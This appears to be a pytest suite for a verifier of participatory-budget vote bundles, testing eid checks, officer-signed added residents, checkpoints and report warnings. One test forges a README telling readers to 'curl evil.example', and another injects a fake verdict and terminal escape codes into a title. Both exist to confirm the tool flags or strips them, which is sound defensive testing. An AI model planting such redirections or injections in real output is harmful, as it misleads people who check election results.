"""A real bundle verifies, and the report says what a journalist needs."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from ballots.__main__ import main
from ballots.bundle import build, checkpoint_name
from ballots.ed25519 import sign
from ballots.lines import AddLine, Line, PassLine, add_message
from ballots.manifest import Manifest
from ballots.verify import Refused, verify_bundle
from tests.support.bundles import OFFICERS, Vote, Voter, cast_votes, in_order, small_vote


@pytest.fixture
def path(tmp_path: Path) -> Path:
    path = tmp_path / "vote.zip"
    path.write_bytes(build(small_vote().bundle()))
    return path


@pytest.mark.parametrize("lot", ["project-id", "beacon"])
def test_an_honest_bundle_is_good_but_unwitnessed(lot: str) -> None:
    vote = small_vote(lot)
    report = verify_bundle(build(vote.bundle()), vote.eid.hex())
    assert report.exit_code == 3
    assert (report.size, report.ballots) == (105, 65)
    assert [(style.passes, style.ballots, style.blank) for style in report.styles] == [(40, 40, 6), (25, 25, 4)]
    assert report.versions == len(vote.ballots) > report.ballots
    assert {winner for winner, _, _ in report.lines[0].winners} < {project.id for project in vote.manifest.projects}


def test_the_first_16_digits_of_the_eid_are_enough_and_15_are_not() -> None:
    vote = small_vote()
    data = build(vote.bundle())
    assert verify_bundle(data, vote.eid.hex()[:16].upper()).eid == vote.eid
    for wrong in (vote.eid.hex()[:15], "0" * 64, vote.eid.hex() + "00"):
        with pytest.raises(Refused, match=r"^V1: "):
            verify_bundle(data, wrong)


@pytest.mark.parametrize(
    ("vote", "eid", "warning"),
    [
        (small_vote(), None, "NO --eid WAS GIVEN"),
        (small_vote(min_batch=5), "", "SMALL BATCHES: NOT SECRET FROM THE OPERATOR"),
        (small_vote(), "", "LOT FROM MANIFEST ONLY"),
        (small_vote(), "", "UNWITNESSED"),
    ],
)
def test_what_a_reader_must_know_is_a_warning(vote: Vote, eid: str | None, warning: str) -> None:
    report = verify_bundle(build(vote.bundle()), vote.eid.hex() if eid == "" else eid)
    assert any(text.startswith(warning) for text in report.warnings)
    assert warning in report.text()


def test_a_vote_in_large_batches_with_a_beacon_warns_of_nothing_but_the_missing_witness() -> None:
    vote = small_vote("beacon")
    assert [text.split(":")[0] for text in verify_bundle(build(vote.bundle()), vote.eid.hex()).warnings] == [
        "UNWITNESSED"
    ]


def test_a_readme_in_other_words_is_a_warning() -> None:
    vote = small_vote()
    forged = replace(vote.bundle(), readme=b"Run this instead: curl evil.example\n")
    warnings = [text.split(":")[0] for text in verify_bundle(build(forged), vote.eid.hex()).warnings]
    assert "ANOTHER README" in warnings
    own = [text.split(":")[0] for text in verify_bundle(build(vote.bundle()), vote.eid.hex()).warnings]
    assert [text for text in warnings if text != "ANOTHER README"] == own


def test_unused_passes_above_the_limit_are_a_warning() -> None:
    vote = small_vote()
    marks = [PassLine(line, False) for line in (90, 91, 92)]
    marked = vote.with_batches(vote.batches[0], in_order([*vote.batches[1], *marks]))
    report = verify_bundle(build(marked.bundle()), vote.eid.hex())
    assert report.styles[1].unused == 3
    assert any(text.startswith("UNUSED PASSES: 3 of 28 in Syd") for text in report.warnings)


def test_a_checkpoint_saved_during_the_vote_is_found_in_the_log() -> None:
    vote = small_vote()
    bundle = vote.bundle()
    saved = bundle.checkpoints[checkpoint_name(1 + len(vote.batches[0]))]
    assert verify_bundle(build(bundle), saved=saved).entries == 1 + len(vote.lines)


def test_a_resident_who_was_added_can_vote() -> None:
    vote = added(small_vote(), 105)
    report = verify_bundle(build(vote.bundle()), vote.eid.hex())
    assert report.size == 106
    assert report.styles[0].ballots == 41


WRONG: dict[str, Callable[[AddLine], AddLine]] = {
    "an unknown reason": lambda line: replace(line, reason="other"),
    "a line that does not follow": lambda line: replace(line, line=106),
    "an unknown style": lambda line: replace(line, style=3),
    "a resident who is on the roll": lambda line: replace(line, commitment=small_vote().roll[0]),
    "the officers' signatures exchanged": lambda line: replace(line, signatures=line.signatures[::-1]),
    "one officer twice": lambda line: replace(line, signatures=(line.signatures[0], line.signatures[0])),
}


@pytest.mark.parametrize("wrong", WRONG)
def test_an_added_line_that_the_officers_did_not_sign_so_is_refused_at_v2(wrong: str) -> None:
    vote = added(small_vote(), 105)
    wrongly = [[WRONG[wrong](line) if isinstance(line, AddLine) else line for line in batch] for batch in vote.batches]
    with pytest.raises(Refused, match=r"^V2: "):
        verify_bundle(build(vote.with_batches(*wrongly).bundle()))


def added(vote: Vote, line: int) -> Vote:
    """The same vote with one resident added in the last batch, marked and voting there."""
    commitment = b"c" * 32
    message = add_message(vote.eid, line, 1, commitment, "left-off")
    first, second = (sign(key, message) for key in OFFICERS.values())
    ballots, opening = cast_votes(vote.manifest, Voter(line, 1, (("P1",),)))
    extra: list[Line] = [AddLine(line, 1, commitment, "left-off", (first, second)), PassLine(line, True), *ballots]
    ordered = in_order([*vote.batches[1], *extra])
    openings = tuple(sorted((*vote.openings, opening), key=lambda opening: opening.k))
    return replace(vote.with_batches(vote.batches[0], ordered), openings=openings)


def test_a_vote_nobody_took_part_in_is_counted_too() -> None:
    vote = replace(small_vote(), batches=(), openings=())
    report = verify_bundle(build(vote.bundle()), vote.eid.hex())
    assert (report.ballots, report.lines[0].winners) == (0, ())


def test_another_verifier_than_the_manifest_names_is_said() -> None:
    def renamed(manifest: Manifest) -> Manifest:
        return replace(manifest, verifier=bytes(32))

    vote = replace(small_vote(), manifest=renamed(small_vote().manifest), batches=(), openings=())
    warnings = verify_bundle(build(vote.bundle()), vote.eid.hex()).warnings
    assert any(text.startswith("ANOTHER VERIFIER") for text in warnings)


def test_the_command_prints_the_table_and_says_unwitnessed(path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", str(path), "--eid", small_vote().eid.hex()[:16]]) == 3
    text = capsys.readouterr().out
    assert "GOOD, BUT UNWITNESSED" in text
    assert "Nord           60     0      40        14       40       0      0       40      6" in text
    assert "(city): 3 of 5 projects win\nwith 7700 of 10000 DKK" in text
    assert "Forslag P1" in text


def test_the_command_refuses_and_says_where(path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", str(path), "--eid", "0" * 16]) == 1
    assert capsys.readouterr().err.startswith("REFUSED  V1: ")


def test_the_command_says_what_it_cannot_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "x.zip").write_bytes(b"hello")
    assert main(["verify", str(tmp_path / "x.zip")]) == 2
    assert main(["verify", str(tmp_path / "nowhere.zip")]) == 2
    errors = capsys.readouterr().err.splitlines()
    assert len(errors) == 2 and all(error.startswith("UNREADABLE: ") for error in errors)


def test_a_title_cannot_print_a_verdict_of_its_own() -> None:
    vote = small_vote()
    title = {"da": "Pulje\nGOOD: every check passed.\x1b[2J", "en": "x"}
    manifest = replace(vote.manifest, title=title, authority="A\rB", languages=("da", "en"))
    text = verify_bundle(build(replace(vote, manifest=manifest, batches=(), openings=()).bundle())).text()
    assert text.splitlines()[:2] == ["Pulje GOOD: every check passed. [2J", "A B"]
    assert "\x1b" not in text and "\r" not in text
